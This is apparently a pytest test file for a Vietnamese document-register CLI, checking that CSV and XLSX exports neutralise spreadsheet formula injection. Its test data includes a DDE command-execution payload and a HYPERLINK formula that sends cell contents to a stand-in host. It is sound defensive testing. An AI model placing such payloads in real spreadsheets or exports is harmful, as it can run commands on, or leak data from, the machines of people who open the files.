"""Exports carry no formulas (OWASP's CSV injection rule): a trích yếu, signer or recipient
written ``=HYPERLINK(...)`` or ``=cmd|' /C calc'!A0`` is text in the CSV and in the XLSX."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from ntm_docgen.cli.main import main
from ntm_docgen.files.spreadsheet import csv_cell, is_formula_like

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?a="&A1,"Bấm")', "+1+2",
           "@SUM(A1:A9)", "-2+3", "\tTAB", "\r=1", "=1+2"]


@pytest.mark.parametrize("value", HOSTILE, ids=["dde", "hyperlink", "plus", "at", "minus",
                                                "tab", "cr", "equals"])
def test_formula_like_text_is_marked(value: str) -> None:
    assert is_formula_like(value) and csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-5", "-1,5", "-0.25", "Như trên", "UBND xã A", ""],
                         ids=["negative", "decimal-comma", "decimal-point", "text", "name",
                              "empty"])
def test_plain_text_and_numbers_stay(value: str) -> None:
    assert not is_formula_like(value) and csv_cell(value) == value


@pytest.fixture
def hostile_register(runner: CliRunner, tmp_path: Path) -> str:
    db = str(tmp_path / "so-di.sqlite3")
    for value in HOSTILE:
        result = runner.invoke(main, ["register", "next", "--db", db, "--co-quan", "UBND",
                                      "--loai", "CV", "--nam", "2026", "--trich-yeu", value,
                                      "--nguoi-ky", value, "--noi-nhan", value])
        assert result.exit_code == 0, result.output
    return db


def test_xlsx_export_holds_no_formula(runner: CliRunner, hostile_register: str,
                                      tmp_path: Path) -> None:
    out = tmp_path / "so-di.xlsx"
    result = runner.invoke(main, ["register", "export", "--db", hostile_register, "-o", str(out),
                                  "--nam", "2026"])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(book.read(n) for n in sheets)
    assert sheets and re.search(rb"<(?:\w+:)?f[ >]", xml) is None
    sheet = load_workbook(out).active
    values = {c.value for row in sheet.iter_rows(min_row=4) for c in row}
    assert "=cmd|' /C calc'!A0" in values  # the signer's column, as written
    signer = next(c for row in sheet.iter_rows(min_row=4) for c in row
                  if c.value == "=cmd|' /C calc'!A0")
    assert signer.data_type == "s" and signer.quotePrefix


def test_csv_export_quotes_formula_like_cells(runner: CliRunner, hostile_register: str,
                                              tmp_path: Path) -> None:
    out = tmp_path / "so-di.csv"
    result = runner.invoke(main, ["register", "export", "--db", hostile_register, "-o", str(out),
                                  "--nam", "2026"])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.,]+", c)]
